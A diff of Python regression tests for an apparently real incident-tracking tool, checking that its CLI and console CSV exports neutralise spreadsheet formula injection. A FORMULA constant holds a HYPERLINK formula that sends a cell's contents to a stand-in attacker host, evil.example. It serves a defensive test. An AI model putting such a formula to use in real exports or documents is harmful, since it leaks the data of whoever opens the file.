@@ -5,21 +5,18 @@ from __future__ import annotations
 import csv
 import io
 import json
-import subprocess
-import sys
 import time
-from pathlib import Path
 
 from agi.engine import Incident
+from tests.support.cli import run_cli
 
-SCRIPT = str(Path(sys.executable).with_name("grenswacht"))
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def cli_export(tmp_path, redis_url: str, fmt: str) -> bytes:
     cfg = tmp_path / "grenswacht.toml"
     cfg.write_text(f'[redis]\nurl = "{redis_url}"\n')
-    out = subprocess.run([SCRIPT, "--config", str(cfg), "export", "--format", fmt], capture_output=True, timeout=60)
+    out = run_cli(["--config", str(cfg), "export", "--format", fmt], text=False)
     assert out.returncode == 0, out.stderr
     return out.stdout  # bytes: as written, line ends included
 
@@ -38,9 +35,9 @@ async def test_cli_and_console_export_the_same_bytes_with_formulas_neutralised(t
         source="key",
         actor="-cmd",
     )
-    await store.add_incident(inc)
-    await store.set_debrief(
-        inc.caller, (await store.load_caller(inc.caller)).incidents[0], "+talked", 5.5, "sup1", "conscious"
+    await store.incidents.add_incident(inc)
+    await store.incidents.set_debrief(
+        inc.caller, (await store.screening.load_caller(inc.caller)).incidents[0], "+talked", 5.5, "sup1", "conscious"
     )
 
     from_cli = cli_export(tmp_path, redis_server.url, "csv")
@@ -63,6 +60,8 @@ async def test_cli_and_console_export_the_same_bytes_with_formulas_neutralised(t
 
 async def test_cli_csv_export_neutralises_a_formula_in_a_note(tmp_path, redis_server, store):
     """Issue 27, bug 2: the CLI's CSV wrote a note starting with = as it was (a spreadsheet runs it)."""
-    await store.add_incident(Incident.new("+31612345678", "abuse", time.time() - 60, note=FORMULA, source="cli"))
+    await store.incidents.add_incident(
+        Incident.new("+31612345678", "abuse", time.time() - 60, note=FORMULA, source="cli")
+    )
     [row] = list(csv.DictReader(io.StringIO(cli_export(tmp_path, redis_server.url, "csv").decode(), newline="")))
     assert row["note"] == "'" + FORMULA
